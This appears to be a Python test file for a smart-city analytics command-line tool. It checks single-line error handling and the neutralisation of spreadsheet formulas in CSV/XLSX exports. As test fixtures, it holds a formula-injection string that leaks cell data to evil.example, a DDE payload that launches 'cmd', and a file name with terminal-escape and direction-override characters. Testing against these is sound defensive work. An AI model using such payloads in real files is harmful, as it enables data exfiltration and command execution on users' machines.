"""The command line never shows a traceback (issue 13, points 8 and 9): every bad call below exits 2 with one
``error: …`` line that says what is wrong, nothing is created or written where it should not be, file names in
messages are escaped, a file with 100,000 problems prints the first 100 and a count, and CSV/XLSX output never
carries a live spreadsheet formula — in the import history or in headers an analyst's framework supplies."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from analytics.cli.main import main
from tests.conftest import REPO

H = "region_code,year,pillar,score"


def run(argv: list[str], capsys) -> tuple[int, str, str]:
    try:
        code = main(argv)
    except SystemExit as exc:
        code = exc.code
    out, err = capsys.readouterr()
    return code, out, err


def one_error_line(err: str) -> str:
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err[-2000:]
    assert "Traceback" not in err
    return lines[0]


@pytest.fixture()
def files(tmp_path, monkeypatch):
    """A scratch folder with a FIFO, a text file posing as a database, and env pointing at its own DB."""
    monkeypatch.setenv("KOTA_CERDAS_DB", str(tmp_path / "smartcity.duckdb"))
    monkeypatch.setenv("KOTA_CERDAS_IMPORTS_DIR", str(tmp_path / "imports"))
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "text.duckdb").write_text("this is not a database\n" * 200)
    (tmp_path / "file.csv").write_text(H + "\n")
    return tmp_path


# (id, argv with {tmp} for the scratch folder, a fragment the one error line must hold)
BAD_CALLS = [
    ("n-unbounded", ["export", "uncertainty", "--n", "100000000000"], "--n must be at most 10,000"),
    ("n-large", ["export", "uncertainty", "--n", "2000000"], "--n must be at most 10,000"),
    ("seed-negative", ["export", "uncertainty", "--seed", "-1"], "--seed must be between 0 and"),
    ("k-unbounded", ["export", "peers", "--region", "73.71", "--k", "100000000000"], "--k must be between 1 and 100"),
    ("build-seed-overflow", ["build", "--seed", "99999999999999999999999", "--db", "{tmp}/w.duckdb"],
     "--seed must be between 0 and 2147483647"),
    ("output-in-a-file", ["export", "coverage", "--output", "{tmp}/file.csv/x.csv"], "Not a directory"),
    ("output-folder-missing", ["export", "coverage", "--output", "{tmp}/no/such/x.csv"], "does not exist"),
    ("output-fifo", ["export", "coverage", "--output", "{tmp}/fifo"], "is a pipe (FIFO)"),
    ("output-device", ["export", "coverage", "--output", "/dev/full"], "is a device"),
    ("output-proc", ["export", "coverage", "--output", "/proc/version"], "cannot write /proc/version"),
    ("template-fifo", ["imports", "template", "scores", "--output", "{tmp}/fifo"], "is a pipe (FIFO)"),
    ("db-not-duckdb", ["export", "coverage", "--db", "{tmp}/text.duckdb"], "not a readable Kota Cerdas database"),
    ("db-is-a-folder", ["export", "coverage", "--db", "{tmp}"], "not a readable Kota Cerdas database"),
    ("build-over-a-text-file", ["build", "--db", "{tmp}/text.duckdb"], "is not a DuckDB database"),
    ("framework-device", ["export", "maturity", "--framework", "/dev/zero", "--data", "{tmp}/file.csv"],
     "/dev/zero is a device"),
    ("data-fifo", ["export", "maturity", "--framework", "{tmp}/file.csv", "--data", "{tmp}/fifo"],
     "is a pipe (FIFO)"),
    ("import-device", ["import", "/dev/zero", "--dry-run"], "/dev/zero is a device"),
    ("import-fifo", ["import", "{tmp}/fifo", "--dry-run"], "is a pipe (FIFO)"),
    ("import-folder", ["import", "{tmp}", "--dry-run"], "is a folder"),
    ("map-device", ["map", "--output", "/dev/zero"], "is a device"),
    ("map-fifo", ["map", "--csv", "--output", "{tmp}/fifo"], "is a pipe (FIFO)"),
    ("map-width", ["map", "--width", "100"], "--width must be between 2400 and 12000"),
]


@pytest.mark.parametrize("argv,fragment", [c[1:] for c in BAD_CALLS], ids=[c[0] for c in BAD_CALLS])
def test_bad_calls_are_one_line_and_exit_2(files, capsys, argv, fragment):
    """In a child process with a deadline: a FIFO or /dev/zero that is opened would hang or fill memory."""
    argv = [a.replace("{tmp}", str(files)) for a in argv]
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    p = subprocess.run([sys.executable, "-m", "analytics", *argv], cwd=REPO, env=env, capture_output=True,
                       text=True, timeout=120)
    assert p.returncode == 2, (p.returncode, p.stderr[-1500:])
    assert fragment in one_error_line(p.stderr)
    if argv[0] == "build":
        assert (files / "text.duckdb").read_text().startswith("this is not a database")   # never overwritten


def test_build_never_creates_folders(tmp_path, capsys):
    target = tmp_path / "nonexistent" / "dir" / "x.duckdb"
    code, _, err = run(["build", "--db", str(target)], capsys)
    assert code == 2 and "does not exist" in one_error_line(err)
    assert not (tmp_path / "nonexistent").exists()


def test_file_names_in_messages_are_escaped(files, capsys):
    evil = files / "\x1b[31mred\x1b[0m\u202eevil.csv"
    evil.write_bytes(b"region_code,year,pillar,score\n99.99,2022,governance,3\n")
    code, _, err = run(["import", str(evil), "--dry-run"], capsys)
    assert code == 2
    assert "\x1b" not in err and "\u202e" not in err
    assert "\\x1b[31mred\\x1b[0m\\u202eevil.csv: row 2, column region_code" in err


def test_a_hundred_thousand_problems_print_the_first_hundred_and_a_count(files, capsys):
    bad = files / "bad.csv"
    bad.write_text(H + "\n" + "99.99,2022,governance,3\n" * 100_000)
    code, out, err = run(["import", str(bad), "--dry-run"], capsys)
    lines = err.splitlines()
    assert code == 2 and len(lines) == 102, len(lines)
    assert all(line.startswith("error: bad.csv: row ") for line in lines[:100])
    assert lines[100] == "error: bad.csv: … and 99,900 more problems (the first 100 are shown)"
    assert lines[101] == "error: bad.csv: rejected, 100,000 problems; nothing was imported"


def test_unexpected_errors_are_one_line_too(monkeypatch, capsys):
    cli_main = sys.modules["analytics.cli.main"]    # (the package's `main` attribute is the function)

    def boom(args):
        raise RuntimeError("something odd\nsecond line")
    monkeypatch.setattr(cli_main, "_cmd_build", boom)
    monkeypatch.delenv("KOTA_CERDAS_DEBUG", raising=False)
    code, _, err = run(["build"], capsys)
    assert code == 1
    assert one_error_line(err) == ("error: internal error (RuntimeError): something odd "
                                   "(set KOTA_CERDAS_DEBUG=1 to see where)")


# ------------------------------------------------------------------------------------ formula neutralisation

FORMULA = '=HYPERLINK(CONCAT("https:", "evil.example?leak=", A1), "open")'


def test_imports_list_csv_neutralises_formulas(tmp_path, monkeypatch, capsys):
    from analytics.io import imports
    from analytics.warehouse.build import build
    db = tmp_path / "smartcity.duckdb"
    monkeypatch.setenv("KOTA_CERDAS_DB", str(db))
    monkeypatch.setenv("KOTA_CERDAS_IMPORTS_DIR", str(tmp_path / "imports"))
    build(db)
    imports.commit((H + "\n73.71,2022,governance,3\n").encode(), FORMULA + ".csv", by="@SUM(1+1)*cmd|' /C calc'!A0",
                   db=db)
    code, out, _ = run(["imports", "list", "--format", "csv"], capsys)
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["file_name"] == "'" + FORMULA + ".csv"
    assert row["imported_by"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture()
def analyst_files(tmp_path):
    fw = tmp_path / "framework.csv"
    fw.write_text('node,parent,weight,direction\nroot,,1,1\n"=HYPERLINK(""http://x"",""y"")",root,1,1\n'
                  'b,"=HYPERLINK(""http://x"",""y"")",1,1\nc,root,1,1\n')
    data = tmp_path / "data.csv"
    data.write_text('unit,indicator,value\n"-2+3+cmd|x",b,1\n"-2+3+cmd|x",c,2\nu2,b,3\nu2,c,1\n')
    return fw, data


@pytest.mark.parametrize("kind", ["maturity", "uncertainty"])
def test_framework_exports_neutralise_headers_and_cells(analyst_files, tmp_path, capsys, kind):
    fw, data = analyst_files
    extra = ["--n", "20"] if kind == "uncertainty" else []
    code, out, err = run(["export", kind, "--framework", str(fw), "--data", str(data), *extra], capsys)
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    if kind == "uncertainty":            # the aggregate node's name is a column header
        assert "'=HYPERLINK(\"http://x\",\"y\")" in rows[0]
    assert "'-2+3+cmd|x" in cells
    xlsx = tmp_path / f"{kind}.xlsx"
    code, _, err = run(["export", kind, "--framework", str(fw), "--data", str(data), *extra, "--format", "xlsx",
                        "--output", str(xlsx)], capsys)
    assert code == 0, err
    wb = openpyxl.load_workbook(xlsx)
    for ws in wb.worksheets:
        for row in ws.iter_rows(values_only=True):
            for v in row:
                assert not (isinstance(v, str) and v[:1] in ("=", "+", "-", "@")), (ws.title, v)
